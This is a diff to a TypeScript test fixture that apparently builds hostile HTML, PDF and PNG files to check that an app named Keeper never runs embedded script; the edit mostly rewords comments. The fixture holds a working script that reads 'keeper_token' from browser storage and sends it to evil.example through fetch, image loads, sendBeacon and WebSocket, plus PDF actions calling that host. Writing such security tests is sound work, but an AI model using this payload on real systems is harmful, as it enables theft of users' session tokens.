@@ -5,7 +5,7 @@ export interface HostileDocument {
 }
 
 const away = 'https://evil.example'
-/** Says that it ran, what the browser keeps for Keeper, and sends it off in five ways. */
+/** Reports that it ran and what the browser stores for Keeper, then sends it away in five ways. */
 const steal = `(()=>{const h=[self,self.top,self.parent,self.opener].map(w=>{try{return w&&w.gateHears}catch{}}).find(Boolean)||(()=>{});h('ran '+location.protocol);let t;try{t=localStorage.getItem('keeper_token')||''}catch{t=''}try{t=t||top.localStorage.getItem('keeper_token')||''}catch{}try{t=t||opener.localStorage.getItem('keeper_token')||''}catch{}if(t){h('token '+t);try{indexedDB.databases().then(d=>h('databases '+d.map(x=>x.name)))}catch{}try{fetch('${away}/?f='+t)}catch{}try{new Image().src='${away}/?i='+t}catch{}try{navigator.sendBeacon('${away}/?b='+t)}catch{}try{new WebSocket('wss://evil.example/?w='+t)}catch{}}})()`
 const quoted = steal.replaceAll('&', '&amp;').replaceAll('"', '&quot;').replaceAll('<', '&lt;')
 const cdata = `<![CDATA[${steal}]]>`
@@ -20,7 +20,6 @@ const pdf = (catalog: string, page = '') =>
 const inPdf = `app.launchURL\\("${away}/js"\\);this.submitForm\\("${away}/form"\\);`
 const link = (action: string) => `/Annots[<</Type/Annot/Subtype/Link/Rect[0 0 200 200]/A<<${action}>>>>]`
 
-/** A picture of one point, with a text in it. */
 function png(text: string): Buffer {
   const point = Buffer.from(
     'iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==',
@@ -29,7 +28,7 @@ function png(text: string): Buffer {
   const body = Buffer.concat([Buffer.from('tEXt'), Buffer.from(`Comment\0${text}`)])
   const length = Buffer.alloc(4)
   length.writeUInt32BE(body.length - 4)
-  // The check of the chunk is wrong, and readers pass over it.
+  // The chunk's checksum is wrong, which readers ignore.
   return Buffer.concat([point.subarray(0, 33), length, body, Buffer.alloc(4), point.subarray(33)])
 }
 
@@ -140,7 +139,6 @@ const texts: [name: string, type: string, text: string][] = [
   ['page-in.pdf', 'application/pdf', `%PDF-1.4\n${html(`<script>${steal}</script>`)}`],
 ]
 
-/** Files that would steal the token from whoever opens them, if anything let them. */
 export const hostileDocuments: readonly HostileDocument[] = [
   ...texts.map(([name, type, text]) => ({ name, type, bytes: Buffer.from(text) })),
   { name: 'metadata.png', type: 'image/png', bytes: png(html(`<script>${steal}</script>`)) },
